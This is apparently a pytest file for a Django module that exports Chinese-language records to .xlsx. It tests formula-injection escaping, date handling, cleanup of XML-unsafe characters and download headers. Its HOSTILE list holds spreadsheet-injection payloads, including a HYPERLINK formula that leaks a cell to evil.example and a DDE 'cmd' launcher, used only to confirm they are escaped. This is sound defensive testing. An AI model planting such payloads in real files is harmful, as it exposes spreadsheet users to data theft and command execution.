import datetime
import io
import zipfile
from decimal import Decimal
from urllib.parse import quote

import openpyxl
import pytest
from django.utils import timezone

from core.export import CONTENT_TYPE, safe_text, spreadsheet_response, workbook_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def read_back(content):
    """Every sheet cell of an .xlsx file, as openpyxl reads it (formulas left as formulas)."""
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    sheet = workbook.active
    return sheet, [list(row) for row in sheet.iter_rows()]


def test_chinese_text_numbers_and_dates_read_back_as_written():
    arrived = timezone.make_aware(datetime.datetime(2026, 11, 3, 9, 30, 15, 123456), datetime.UTC)
    content = workbook_bytes(
        ["姓名", "工作年限", "提交时间", "日期", "薪资"],
        [["张三", 5, arrived, datetime.date(2026, 11, 3), Decimal("8500.50")]],
    )
    _sheet, rows = read_back(content)
    assert [cell.value for cell in rows[0]] == ["姓名", "工作年限", "提交时间", "日期", "薪资"]
    name, years, at, day, pay = rows[1]
    assert name.value == "张三"
    assert years.value == 5 and years.data_type == "n"
    # Shown in the site's time zone (Asia/Shanghai), to the second.
    assert at.value == datetime.datetime(2026, 11, 3, 17, 30, 15)
    assert at.number_format == "yyyy-mm-dd hh:mm"
    assert day.value.date() == datetime.date(2026, 11, 3)
    assert pay.value == 8500.5


def test_header_row_is_bold_and_frozen():
    sheet, rows = read_back(workbook_bytes(["姓名"], [["李四"]]))
    assert rows[0][0].font.b is True
    assert sheet.freeze_panes == "A2"


@pytest.mark.parametrize("typed", HOSTILE)
def test_a_cell_typed_as_a_formula_is_escaped_text_and_never_a_formula(typed):
    _sheet, rows = read_back(workbook_bytes(["备注"], [[typed]]))
    cell = rows[1][0]
    assert cell.data_type == "s"
    # XML reads a carriage return back as a line feed; the escape is what matters.
    assert cell.value == "'" + typed.replace("\r", "\n")
    assert not str(cell.value).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_no_formula_is_anywhere_in_the_file():
    content = workbook_bytes(["a", "=b"], [HOSTILE, ["=1+1", "ok"]])
    _sheet, rows = read_back(content)
    assert all(cell.data_type != "f" for row in rows for cell in row)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def test_harmless_text_is_left_alone_even_with_a_sign_inside():
    assert safe_text("张三 = 优秀") == "张三 = 优秀"
    assert safe_text(" =1+1") == " =1+1"
    assert safe_text("13800000000") == "13800000000"


def test_characters_xml_cannot_hold_are_dropped_and_long_text_is_cut():
    _sheet, rows = read_back(workbook_bytes(["说明"], [["a\x00b\x0bc\x1f"], ["长" * 40000]]))
    assert rows[1][0].value == "abc"
    assert len(rows[2][0].value) == 32767


def test_empty_values_stay_empty_and_booleans_read_as_words():
    _sheet, rows = read_back(workbook_bytes(["a", "b"], [[None, True]]))
    assert rows[1][0].value is None
    assert rows[1][1].value == "True"


def test_a_lazy_or_hostile_header_is_text_too():
    _sheet, rows = read_back(workbook_bytes(["=cmd()"], []))
    assert rows[0][0].value == "'=cmd()" and rows[0][0].data_type == "s"


def test_the_response_is_a_private_download_with_a_chinese_file_name():
    response = spreadsheet_response("应聘记录 2026-11", ["姓名"], [["王五"]])
    assert response["Content-Type"] == CONTENT_TYPE
    assert response["Content-Disposition"] == (f"attachment; filename*=utf-8''{quote('应聘记录 2026-11.xlsx')}")
    assert response["Cache-Control"] == "private, no-store"
    assert response["X-Content-Type-Options"] == "nosniff"
    _sheet, rows = read_back(response.content)
    assert rows[1][0].value == "王五"


def test_rows_may_be_a_generator_and_the_name_keeps_its_extension():
    response = spreadsheet_response("export.xlsx", ["n"], ([i] for i in range(3)))
    assert response["Content-Disposition"] == 'attachment; filename="export.xlsx"'
    _sheet, rows = read_back(response.content)
    assert [row[0].value for row in rows[1:]] == [0, 1, 2]
